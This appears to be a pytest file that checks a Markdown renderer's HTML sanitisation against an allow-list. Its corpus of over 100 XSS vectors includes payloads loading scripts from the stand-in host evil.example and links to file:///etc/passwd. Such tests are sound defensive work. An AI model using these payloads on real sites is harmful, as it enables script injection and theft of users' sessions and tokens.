"""Markdown is rendered, and nothing in it runs: what comes out is walked element by element."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from taskflow.platform.markdown import find_handles, fold_handle, render_markdown

# Written here a second time, on purpose: what the renderer lets through must not be what it says it does.
ALLOWED = {
    **{tag: set[str]() for tag in ("blockquote", "br", "del", "em", "hr", "label", "p", "pre", "s", "strong")},
    **{tag: set[str]() for tag in ("h1", "h2", "h3", "h4", "h5", "h6")},
    **{tag: set[str]() for tag in ("table", "tbody", "td", "th", "thead", "tr")},
    "a": {"href", "title", "rel"},
    "code": {"class"},
    "input": {"checked", "disabled", "class", "type"},
    "li": {"class"},
    "ol": {"start"},
    "span": {"class"},
    "ul": {"class"},
}
VOID = {"br", "hr", "input"}
CLASSES = re.compile(r"language-[\w+#.-]{1,40}|task-list-item(-checkbox)?|contains-task-list|mention")
SCHEMES, OWN_PATH = {"http", "https", "mailto"}, re.compile(r"/[^/\\]|/$")
BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")

VECTORS = [
    # Scripts, and tags that run or load something.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<frameset onload=alert(1)>",
    "<applet code=x></applet>",
    "<template><script>alert(1)</script></template>",
    "<portal src=//evil.example></portal>",
    # Event handlers and attributes.
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=# onclick=alert(1)>x</a>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div id=location name=location>x</div>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=/steal><input name=csrf_token></form>",
    # Addresses that are not addresses.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](<\x01javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](intent://evil#Intent;scheme=http;end)",
    "[x](feed:javascript:alert(1))",
    "[x](view-source:javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: <java\tscript:alert(1)> 'title'\n\n[x][]",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    "javascript:alert(1)",
    'http://x.example/"onmouseover="alert(1)',
    "https://x.example/'><script>alert(1)</script>",
    '<https://x.example/"onclick=alert(1)//>',
    "<http://x.example/<script>alert(1)</script>>",
    # Images.
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](data:image/png;base64,AAAA)",
    '![x" onerror="alert(1)](x)',
    "![x][y]\n\n[y]: javascript:alert(1)",
    "[![x](x)](javascript:alert(1))",
    # SVG, MathML, and text that is parsed twice.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp><p title='</xmp><script>alert(1)</script>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><script>alert(1)</script>'>",
    "a<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    # Markdown inside Markdown.
    "`<script>`\n\n```html\n<script>alert(1)</script>\n```",
    '```x" onmouseover="alert(1)\ny\n```',
    "```btn btn-primary\ny\n```",
    "~~~ <script>alert(1)</script>\nx\n~~~",
    "[a](x 'b\" onclick=\"alert(1)')",
    '[a](https://x.example "\'><script>alert(1)</script>")',
    "**<b onclick=alert(1)>x</b>**",
    "> - <script>alert(1)</script>\n>   1. [x](javascript:alert(1))",
    "| <script>alert(1)</script> | [x](javascript:x) |\n|---|---|\n| <img src=x onerror=alert(1)> | x |",
    "- [ ] <img src=x onerror=alert(1)>\n- [x] [y](javascript:alert(1))",
    "[<img src=x onerror=alert(1)>](https://x.example)",
    "# <a name=x onclick=alert(1)>x</a>\n\n<script>\n===",
    "[[x](javascript:alert(1))](https://x.example)",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    # What is not to be seen, and what reads as something else.
    "\u202egpj.exe [x](https://evil.example/\u2066\u2067)",
    "<s\u202ecript>alert(1)</script>",
    "\u2067`\u2066code\u2069`\u2069",
    "[x](java\u200bscript:alert(1))",
    "[x](\ufeffjavascript:alert(1))",
    "\x00<script\x00>alert(1)</script>",
    "<img src=x\u2028onerror=alert(1)>",
    # Mentions.
    "@<script>alert(1)</script>",
    '@mateo"onclick="alert(1)',
    "[@mateo](javascript:alert(1))",
    "@mateo<img src=x onerror=alert(1)>",
]


class Walk(HTMLParser):
    """Goes through HTML and finds everything that is not allowed."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.opened: list[str] = []
        self.links: list[str] = []
        self.feed(html)
        self.close()
        self.faults += [f"<{tag}> is not closed" for tag in self.opened]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.faults.append(f"<{tag}>")
            return
        if tag not in VOID:
            self.opened.append(tag)
        for name, value in attrs:
            self._look_at(tag, name, value or "")

    def handle_endtag(self, tag: str) -> None:
        if tag not in VOID and (not self.opened or self.opened.pop() != tag):
            self.faults.append(f"</{tag}> closes nothing")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"<![{data}]>")

    def _look_at(self, tag: str, name: str, value: str) -> None:
        if name not in ALLOWED[tag]:
            self.faults.append(f"<{tag} {name}={value!r}>")
        elif name == "href":
            self.links.append(value)
            if not (value.startswith("#") or OWN_PATH.match(value) or urlsplit(value).scheme in SCHEMES):
                self.faults.append(f"href={value!r}")
        elif name == "class" and not CLASSES.fullmatch(value):
            self.faults.append(f"class={value!r}")
        elif name == "type" and value != "checkbox":
            self.faults.append(f"type={value!r}")
        elif name == "rel" and value != "noopener noreferrer nofollow ugc":
            self.faults.append(f"rel={value!r}")


def check(text: str) -> str:
    html = render_markdown(text, {"mateo": "M <script>alert(1)</script>"})
    assert Walk(html).faults == [], html
    assert not BIDI.search(html)
    return html


def test_the_corpus_is_varied() -> None:
    assert len(VECTORS) == len(set(VECTORS)) > 100


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_outside_the_allowed_is_left(vector: str) -> None:
    check(vector)


@pytest.mark.parametrize("before", ["> ", "- ", "1. ", "# ", "**", "| a |\n|---|\n| ", "[x](", "[", "`", "<b>", "@"])
def test_nor_is_it_within_other_markdown(before: str) -> None:
    for vector in VECTORS:
        check(before + vector)


def test_nor_are_they_together() -> None:
    check("\n\n".join(VECTORS))
    check(" ".join(VECTORS))


@pytest.mark.parametrize(
    "html",
    [
        "<script>", "<p onclick=x>x</p>", "<a href='java&#9;script:x'>x</a>", "<a href=' data:x'>x</a>", "<!--x-->",
        "<p>", "</p>", "<code class='btn'>x</code>", "<input type=text>", "<img src=x>", "<?x>", "<a href='//x'>x</a>",
        "<a href='x'>x</a>", "<!doctype html>",
    ],
)  # fmt: skip
def test_the_walk_finds_what_is_not_allowed(html: str) -> None:
    assert Walk(html).faults


@given(st.text(max_size=300))
def test_any_text_renders_to_what_is_allowed(text: str) -> None:
    check(text)


@given(st.lists(st.sampled_from([*VECTORS, "\n", "`", "*", "[", "](", ")", "<", ">", "@", "\\", "|", '"']), max_size=8))
def test_any_mixture_of_attacks_renders_to_what_is_allowed(parts: list[str]) -> None:
    check("".join(parts))


def test_it_is_markdown() -> None:
    html = check("**bold** and [a link](https://example.org)\n\n- [x] done\n\n| a |\n|---|\n| b |\n\n```python\nx\n```")
    assert "<strong>bold</strong>" in html
    assert 'rel="noopener noreferrer nofollow ugc"' in html
    assert "<table>" in html
    assert 'type="checkbox"' in html
    assert '<code class="language-python">' in html


def test_addresses_become_links() -> None:
    assert Walk(check("see https://example.org/a, me@example.org and <https://example.org/b>")).links == [
        "https://example.org/a",
        "mailto:me@example.org",
        "https://example.org/b",
    ]


def test_a_page_of_this_site_can_be_linked() -> None:
    assert Walk(check("[task](/meridian/t/WEB-1) [above](#top)")).links == ["/meridian/t/WEB-1", "#top"]


def test_a_mention_is_marked_where_it_means_somebody() -> None:
    html = render_markdown("@mateo, @Mateo! (@mateo) *@mateo* @nobody", {"mateo": "Mateo Ruiz"})
    assert html.count('<span class="mention">@Mateo Ruiz</span>') == 4
    assert "@nobody" in html


@pytest.mark.parametrize(
    "text",
    [
        "`@mateo`", "```\n@mateo\n```", "    @mateo", "\\@mateo", "a@mateo", "a@mateo.example", "@@mateo",
        "https://x.example/@mateo", "[x](https://x.example/@mateo)", "@", "@ mateo", "@-mateo", "@" + "m" * 101,
    ],
)  # fmt: skip
def test_code_addresses_and_words_mention_nobody(text: str) -> None:
    assert find_handles(text) == []
    assert "<span" not in render_markdown(text, {"mateo": "Mateo", "m" * 101: "M"})


def test_handles_are_found_once_in_their_order() -> None:
    assert find_handles("@priya @José_Díaz [@mateo](/x) @PRIYA, @हिन्दी-नाम.") == [
        "priya", "jose-diaz", "mateo", "हिन्दी-नाम",
    ]  # fmt: skip


@given(st.text(max_size=50))
def test_folding_a_folded_handle_changes_nothing(text: str) -> None:
    folded = fold_handle(text)
    assert fold_handle(folded) == folded


@given(st.text(alphabet="@ab-_ `\\[](é", max_size=40))
def test_what_is_found_is_what_is_marked(text: str) -> None:
    handles = find_handles(text)
    html = render_markdown(text, dict.fromkeys(handles, "X"))
    assert html.count('class="mention"') >= len(handles)
    assert "<span" not in render_markdown(text, {})
